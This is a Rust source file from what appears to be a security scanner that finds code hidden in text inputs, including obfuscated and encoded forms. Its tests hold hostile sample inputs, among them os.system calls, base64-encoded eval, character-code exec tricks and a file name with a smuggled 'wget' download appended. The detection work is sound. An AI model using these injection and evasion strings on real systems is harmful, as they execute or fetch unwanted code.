//! Finds code in text: patterns over the readings of a text. Linear: the `regex` crate, byte classes, no backtracking.

use comfywarden_pattern::{any_of, patterns};

use super::{
    deobfuscate::{self, Reading},
    excerpt::{self, around},
    programs::OTHER_LANGUAGES,
    text::Text,
    word_list::WordList,
};

/// Code beyond doubt, whatever the input is called.
static CERTAIN: WordList = WordList::new(include_str!("lists/patterns/certain_code.txt"));

/// Words that are code where code is meant, and prose elsewhere.
static LIKELY: WordList = WordList::new(include_str!("lists/patterns/likely_code.txt"));
/// Words that are code where code is meant, and words of prose or names of wildcards elsewhere.
static POSSIBLE: WordList = WordList::new(include_str!("lists/patterns/possible_code.txt"));

patterns! {
    static CERTAIN_CODE: BytePattern = any_of(CERTAIN.entries());
    static LIKELY_CODE: BytePattern = any_of(CERTAIN.entries().chain(LIKELY.entries()).chain(OTHER_LANGUAGES.entries()));
    static POSSIBLE_CODE: BytePattern =
        any_of(CERTAIN.entries().chain(LIKELY.entries()).chain(POSSIBLE.entries()).chain(OTHER_LANGUAGES.entries()));
}

/// Words that are code by themselves in a text that had to be decoded.
static HIDDEN_WORDS: WordList = WordList::new(include_str!("lists/hidden_words.txt"));

/// The certainty that text is code.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Confidence {
    /// It can be nothing else: required where the input is meant for prose.
    Certain,
    /// It is code more often than not: enough where nothing tells what the input is for.
    Likely,
    /// It may be code: enough where code is meant.
    Possible,
}

/// Code that was found.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct CodeMatch {
    /// The part that matched, as it reads.
    pub(super) excerpt: String,
    /// True when something had to be decoded or put together to see it.
    pub(super) decoded: bool,
}

/// Finds the first of the readings of `text` that is code.
pub(super) fn find_code(
    text: Text<'_>,
    readings: &[Reading<'_>],
    confidence: Confidence,
) -> Option<CodeMatch> {
    if text.len() < 4 || is_arithmetic(&text) {
        return None;
    }
    if !deobfuscate::can_undo() {
        // What cannot be read is not let through.
        return Some(CodeMatch { excerpt: excerpt::start(&text), decoded: true });
    }
    let patterns = if confidence == Confidence::Possible { &POSSIBLE_CODE } else { &LIKELY_CODE };
    readings.iter().find_map(|reading| {
        let end = match confidence {
            Confidence::Certain => CERTAIN_CODE.end_of_match(reading.text.as_bytes())?,
            Confidence::Likely | Confidence::Possible => {
                patterns.end_of_match(reading.text.as_bytes()).or_else(|| {
                    let says_it = |line: &str| HIDDEN_WORDS.contains(line.trim());
                    (reading.decoded && reading.text.lines().any(says_it)).then_some(0)
                })?
            }
        };
        // Where nothing was moved, the text itself is shown, as somebody wrote it.
        let as_written = !reading.decoded && text.is_plain() && reading.text.len() == text.len();
        let shown = if as_written { text.as_str() } else { &reading.text };
        Some(CodeMatch { excerpt: around(shown, end), decoded: reading.decoded })
    })
}

/// True for sums over single letters: nothing that runs is spelled without a word.
fn is_arithmetic(text: &str) -> bool {
    let mut letters = 0;
    let mut run = 0;
    let mut numbers = 0;
    let mut before = b' ';
    for byte in text.bytes() {
        if !matches!(byte, b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b' ' | b'+' | b'-' | b'*' | b'/' | b'^' | b'.' | b',' | b'(' | b')')
        {
            return false;
        }
        letters = if byte.is_ascii_alphabetic() { letters + 1 } else { 0 };
        run = if byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'/') { run + 1 } else { 0 };
        numbers += usize::from(byte.is_ascii_digit() && !before.is_ascii_digit());
        // Longer runs may be base64, more numbers may be character codes.
        if letters > 1 || run > 8 || numbers > 3 {
            return false;
        }
        before = byte;
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspector::deobfuscate::readings;

    fn is_code(text: Text<'_>, confidence: Confidence) -> bool {
        find_code(text, &readings(text), confidence).is_some()
    }

    #[test]
    fn code_is_seen_through_its_disguises() {
        for text in [
            "__import__('os').system('id')",
            "os . system ('id')",
            "from os import system",
            "exec(''.join(map(chr,[105,109])))",
            "\\x5f\\x5fimport\\x5f\\x5f('os')",
            "ZXZhbChjb21waWxlKCcxJywnJywnZXZhbCcpKQ==",
            "getattr(__builtins__, 'ev'+'al')",
            "a.png; wget https://x.example/p",
            "open('a', mode='w')",
        ] {
            assert!(is_code(Text::new(text), Confidence::Certain), "{text}");
        }
        for text in [
            "eval #\n('1')",
            "[(e:=eval), e('1')]",
            "`id`",
            "ev\u{200b}al(x)",
            "\u{1d41e}\u{1d42f}\u{1d41a}\u{1d425}(1)",
        ] {
            assert!(is_code(Text::new(text), Confidence::Possible), "{text}");
        }
    }

    #[test]
    fn a_sight_shows_what_gave_the_code_away() {
        let of = |text: &str| {
            let text = Text::new(text);
            find_code(text, &readings(text), Confidence::Possible).map(|code| (code.excerpt, code.decoded))
        };
        let written = of("X = 1; Import OS; os.system('Id')").unwrap();
        assert_eq!(written, ("X = 1; Import OS; os.system('Id')".into(), false));
        assert_eq!(of("b3Muc3lzdGVtKCdpZCcp").unwrap(), ("os.system('id')".into(), true));
    }

    #[test]
    fn prose_about_code_is_prose() {
        for text in [
            "eval (2024) film poster, bold typography",
            "a jar of pickles, pickle.loads of fun label",
            "__import__ (car:1.2), jdm street racing",
            "import duty office, 1920s customs house",
            "open (window, 'warm light'), curtains",
            "subprocess.run marathon, runners in the rain",
            "(masterpiece:1.2), <lora:add_detail:0.8>",
            "${price} tag on a vintage lamp",
        ] {
            assert!(!is_code(Text::new(text), Confidence::Certain), "{text}");
        }
        for text in [
            "a*b + round(c, 2)",
            "1024",
            "euler",
            "videos/day one/take 2",
            "#ff8800",
            "{a} and {b}",
            "0.5,0.5,1.0,1.0",
        ] {
            assert!(!is_code(Text::new(text), Confidence::Possible), "{text}");
        }
    }

    #[test]
    fn a_megabyte_of_openings_takes_no_time() {
        let start = std::time::Instant::now();
        assert!(is_code(Text::new(&"open(a,".repeat(150_000)), Confidence::Possible));
        assert!(!is_code(Text::new(&"open(".repeat(200_000)), Confidence::Certain));
        // Linear: a debug build needs a fraction of this; a quadratic search would need minutes.
        assert!(start.elapsed().as_secs() < 20);
    }
}
